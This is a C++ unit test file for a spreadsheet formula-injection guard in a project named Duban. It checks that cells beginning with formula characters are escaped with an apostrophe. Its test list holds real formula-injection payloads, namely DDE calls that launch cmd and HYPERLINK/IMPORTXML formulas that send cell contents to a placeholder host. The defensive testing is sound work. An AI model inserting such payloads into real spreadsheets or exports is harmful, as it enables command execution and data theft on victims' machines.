// SPDX-FileCopyrightText: 2026 The Duban developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "core/base/formula_guard.h"
#include "tests/support/catch.h"

#include <QRandomGenerator>

using namespace core;

namespace {

/// What injects formulas, as collected by those who test for it, and what offices type.
const char *const kInjections[] {
    "=1+1",
    "=cmd|' /C calc'!A0",
    R"(=HYPERLINK("http://x/?"&A1,"点"))",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    R"(=WEBSERVICE("http://x/"))",
    R"(=IMPORTXML(CONCAT("http://x/",A1),"//a"))",
    R"(=DDE("cmd";"/C calc";"x"))",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "　=1+1",
    "\xC2\xA0=1+1",
    "\xEF\xBB\xBF=1+1",
    "＝1+1",
    "＋cmd",
    "－A1",
    "＠SUM(A1)",
    "﹢1+A1",
    "--1",
    "-5万元",
    "+8613800000000转1",
    "=",
    "@",
    "+",
};

/// The rule of trust.md T3 by another road: the first character that counts, by its number.
bool isDangerous(const QString &text)
{
    QString number = text;
    if (number.endsWith(u'%'))
        number.chop(1);
    bool isNumber = false;
    number.toDouble(&isNumber);
    if (text == QStringLiteral("-") || (isNumber && !text.contains(u'e', Qt::CaseInsensitive)))
        return false;
    for (const QChar character : text) {
        switch (character.unicode()) {
        case 0xFEFF:
        case ' ':
        case 0xA0:
        case 0x3000: continue;
        case '=':
        case '+':
        case '-':
        case '@':
        case '\t':
        case '\r':
        case '\n':
        case 0xFF1D:
        case 0xFF0B:
        case 0xFF0D:
        case 0xFF20: return true;
        default: return false;
        }
    }
    return false;
}

QString randomText(QRandomGenerator &random)
{
    static const QString letters
        = QStringLiteral("=+-@＝＋－＠'\t\r\n \u00A0\u3000\uFEFF0123456789.%—甲乙ABe\",;|!");
    QString text;
    const int length = random.bounded(7);
    for (int i = 0; i < length; ++i)
        text += letters.at(random.bounded(static_cast<int>(letters.size())));
    return text;
}

} // namespace

TEST_CASE("what would be a formula gets an apostrophe, and loses it again")
{
    for (const char *text : kInjections) {
        const QString cell = QString::fromUtf8(text);
        INFO(text);
        CHECK(withFormulaGuard(cell) == u'\'' + cell);
        CHECK(withoutFormulaGuard(withFormulaGuard(cell)) == cell);
    }
}

TEST_CASE("numbers, lone dashes and ordinary texts stay as they are")
{
    for (const char *text : {"-2",
                             "+3.5%",
                             "-0.5",
                             "-",
                             "—",
                             "——",
                             "12",
                             "2021年底",
                             "",
                             "   ",
                             "a=b",
                             "'甲'",
                             "''",
                             "（一）"}) {
        const QString cell = QString::fromUtf8(text);
        INFO(text);
        CHECK(withFormulaGuard(cell) == cell);
        CHECK(withoutFormulaGuard(cell) == cell);
    }
}

TEST_CASE("a number with a line break after it is no plain number")
{
    CHECK(withFormulaGuard(QStringLiteral("-5\n")) == QStringLiteral("'-5\n"));
}

TEST_CASE("one apostrophe is taken off, and only where a formula would begin")
{
    CHECK(withoutFormulaGuard(QStringLiteral("'+86")) == QStringLiteral("+86"));
    CHECK(withoutFormulaGuard(QStringLiteral("' ＝1")) == QStringLiteral(" ＝1"));
    CHECK(withoutFormulaGuard(QStringLiteral("''=1")) == QStringLiteral("''=1"));
    CHECK(withoutFormulaGuard(QStringLiteral("'")) == QStringLiteral("'"));
}

TEST_CASE("of ten thousand random texts none is left dangerous and none is lost")
{
    QRandomGenerator random(20261128);
    int guarded = 0;
    for (int i = 0; i < 10000; ++i) {
        const QString text = randomText(random);
        const QString cell = withFormulaGuard(text);
        INFO(text.toStdString());
        CHECK_FALSE(isDangerous(cell));
        if (isDangerous(text))
            CHECK(cell == u'\'' + text);
        // An apostrophe of one's own before a formula is the one thing that is not told apart.
        if (!text.startsWith(u'\''))
            CHECK(withoutFormulaGuard(cell) == text);
        guarded += cell == text ? 0 : 1;
    }
    CHECK(guarded > 1000);
}
